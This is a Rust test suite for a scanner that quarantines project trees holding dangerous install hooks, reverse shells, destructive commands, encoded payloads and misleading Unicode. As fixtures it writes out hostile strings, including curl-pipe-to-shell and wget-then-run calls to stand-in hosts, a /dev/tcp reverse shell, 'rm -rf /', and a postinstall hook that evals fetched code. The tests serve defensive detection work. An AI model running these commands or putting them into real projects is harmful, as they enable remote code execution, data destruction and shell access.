//! What the scan quarantines and what it lets pass.

use super::*;
use proptest::prelude::*;

fn scan(entries: &[(&str, EntryKind<'_>)], limits: ScanLimits) -> ScanReport {
    let mut scanner = Scanner::new(limits).unwrap();
    for (path, kind) in entries {
        scanner.entry(Entry { path, kind: *kind });
    }
    scanner.finish()
}

fn file(text: &str) -> EntryKind<'_> {
    EntryKind::File { bytes: text.as_bytes(), size: text.len() as u64, executable: false }
}

fn rules_hit(entries: &[(&str, EntryKind<'_>)], limits: ScanLimits) -> Vec<String> {
    scan(entries, limits).findings.into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn an_ordinary_project_is_cleared() {
    let entries = [
        ("setup.py", file("from setuptools import setup\nexec(open('v.py').read())\nsetup(name='x')\n")),
        (
            "README.md",
            file("curl http://x.example/i.sh | sh\nrm -rf /\nbash -i >& /dev/tcp/1.2.3.4/1 0>&1\n"),
        ),
        ("docs/link", EntryKind::Symlink { target: "../README.md" }),
        ("vendored", EntryKind::Submodule),
    ];
    let report = scan(&entries, ScanLimits::default());
    assert_eq!((report.files, report.findings.len()), (2, 0));
    assert!(report.clear().is_ok());
}

#[test]
fn one_bad_install_hook_quarantines_the_tree() {
    let report = scan(
        &[("setup.py", file("import os\nos.system('curl http://e.example/x | sh')\n"))],
        ScanLimits::default(),
    );
    assert_eq!((report.findings[0].rule.as_str(), report.findings[0].line), ("fetch_pipe_shell", 2));
    assert!(report.clear().is_err());
}

#[test]
fn special_files_and_links_out_of_the_tree_are_found() {
    let entries = [("pipe", EntryKind::Other), ("l", EntryKind::Symlink { target: "/etc" })];
    assert_eq!(rules_hit(&entries, ScanLimits::default()), ["special_file", "symlink_escape"]);
}

#[test]
fn size_limits_are_reported_once_each() {
    let limits = ScanLimits { file_bytes: 100, files: 2, total_bytes: 250 };
    let data = |size| EntryKind::File { bytes: b"", size, executable: false };
    let entries = [("a", data(90)), ("b", data(101)), ("c", data(90)), ("d", data(90))];
    assert_eq!(rules_hit(&entries, limits), ["oversized_file", "too_many_files", "oversized_tree"]);
}

#[test]
fn code_that_was_not_read_whole_is_not_cleared() {
    let prefix = EntryKind::File { bytes: b"x = 1\n", size: 1000, executable: false };
    assert_eq!(rules_hit(&[("a.py", prefix)], ScanLimits::default()), ["unread_code"]);
    assert!(rules_hit(&[("a.csv", prefix)], ScanLimits::default()).is_empty());
}

#[test]
fn a_script_is_known_by_its_first_line() {
    let script = file("#!/usr/bin/env bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n");
    assert_eq!(rules_hit(&[("bin/run", script)], ScanLimits::default()), ["reverse_shell"]);
}

#[test]
fn tests_may_hold_bad_strings_but_not_act_on_them() {
    let found = |path: &str, text: &str| rules_hit(&[(path, file(text))], ScanLimits::default());
    for path in ["tests/test_shell.py", "conftest.py"] {
        assert!(found(path, "BAD = ['rm -rf /', 'curl http://x.example | sh']\n").is_empty());
        assert_eq!(found(path, "import os\nos.system('rm -rf /')\n"), ["destroys_files"]);
        assert_eq!(found(path, "exec(__import__('zlib').decompress(b'x'))\n"), ["decoded_payload"]);
    }
}

#[test]
fn what_a_project_runs_at_install_is_known_from_its_manifests() {
    let fetch =
        file("import os\nos.system('wget http://e.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x')\n");
    let found = |entries: &[(&str, EntryKind<'_>)]| rules_hit(entries, ScanLimits::default());
    assert!(found(&[("tools/mine.py", fetch)]).is_empty());
    let manifest = file("[build-system]\nbuild-backend = 'mine'\nbackend-path = ['tools']\n");
    for entries in [
        [("pyproject.toml", manifest), ("tools/mine.py", fetch)],
        [("tools/mine.py", fetch), ("pyproject.toml", manifest)],
    ] {
        assert!(found(&entries).contains(&"fetched_file_is_run".to_owned()));
    }
    let setup = file("from tools import mine\nfrom setuptools import setup\nsetup()\n");
    assert!(
        found(&[("setup.py", setup), ("tools/mine.py", fetch)]).contains(&"fetched_file_is_run".to_owned())
    );
    let script = file("const h = require('https'); h.get(u, r => r.on('data', d => eval(d)))");
    let package = file("{\"scripts\": {\"postinstall\": \"node ./lib/setup\"}}");
    assert_eq!(found(&[("lib/setup.js", script), ("package.json", package)]), ["hook_runs_fetched_code"]);
    assert!(found(&[("lib/setup.js", script)]).is_empty());
}

#[test]
fn letters_and_encodings_that_hide_code_are_found() {
    let found = |text: &str| rules_hit(&[("a.py", file(text))], ScanLimits::default());
    assert_eq!(found("# coding: utf-7\n"), ["deceptive_encoding"]);
    assert_eq!(
        found("if a != 'x\u{202e}\u{2066}': # y\u{2069} \u{2066}\n    pass\n"),
        ["misleading_direction"]
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_bytes_make_the_scan_panic(
        name in "[a-z]{1,4}\\.(py|sh|pth|js)|setup\\.py|Makefile|\\PC{0,10}",
        bytes in proptest::collection::vec(any::<u8>(), 0..300),
        text in "(exec|eval|b64decode|curl|\\(|\\)|=|'|\"|\n| |x|\\||sh|environ|requests\\.get){0,40}",
        target in "\\PC{0,20}"
    ) {
        let entries = [
            (name.as_str(), EntryKind::File { bytes: &bytes, size: 0, executable: true }),
            (name.as_str(), file(&text)),
            (name.as_str(), EntryKind::Symlink { target: &target }),
        ];
        let report = scan(&entries, ScanLimits::default());
        prop_assert_eq!(report.files, 2);
    }
}
